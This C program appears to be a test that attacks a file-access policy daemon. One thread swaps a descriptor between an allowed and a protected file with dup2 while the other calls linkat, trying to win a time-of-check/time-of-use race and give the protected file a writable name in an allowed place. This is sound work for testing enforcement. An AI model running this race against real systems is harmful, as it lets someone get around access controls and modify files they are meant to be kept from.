/* Attack: give a protected file a second name in an allowed place, then
 * write it through that name. linkat(FD, "", AT_FDCWD, NEW, AT_EMPTY_PATH)
 * links whatever FD is open on; a second thread points FD (dup2) at
 * ALLOWED and PROTECTED in turn, both opened read-only, so the descriptor
 * policyd decides on may not be the one the kernel links. Usage:
 *   static_flink_race ALLOWED PROTECTED NEW N
 * tries up to N times and says "linked the protected file" once NEW is
 * PROTECTED (same inode); NEW is left in place then. Static: only the
 * kernel backstop sees it. */
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int fds[3]; /* the flipping number, ALLOWED's, PROTECTED's */
static volatile unsigned long flips;

static void *flip(void *p)
{
	(void)p;
	for (unsigned long i = 0;; i++) {
		dup2(fds[1 + (i & 1)], fds[0]);
		flips = i;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	fds[1] = open(argv[1], O_RDONLY);
	fds[2] = open(argv[2], O_RDONLY);
	fds[0] = dup(fds[1]);
	struct stat ps;
	if (fds[1] < 0 || fds[2] < 0 || fds[0] < 0 || stat(argv[2], &ps) < 0)
		return 2;
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	/* on a loaded machine the thread may not have run yet */
	while (flips < 1000)
		sched_yield();
	int n = atoi(argv[4]), failed = 0;
	for (int i = 0; i < n; i++) {
		unlink(argv[3]);
		/* the second thread flips at least once between two tries */
		unsigned long f0 = flips;
		while (flips == f0)
			sched_yield();
		if (syscall(SYS_linkat, fds[0], "", AT_FDCWD, argv[3],
			    AT_EMPTY_PATH) < 0) {
			failed++;
			continue;
		}
		struct stat ns;
		if (stat(argv[3], &ns) == 0 && ns.st_dev == ps.st_dev &&
		    ns.st_ino == ps.st_ino) {
			printf("linked the protected file (try %d)\n", i + 1);
			return 0;
		}
	}
	unlink(argv[3]);
	printf("never linked the protected file in %d tries (%d refused)\n", n,
	       failed);
	return 1;
}
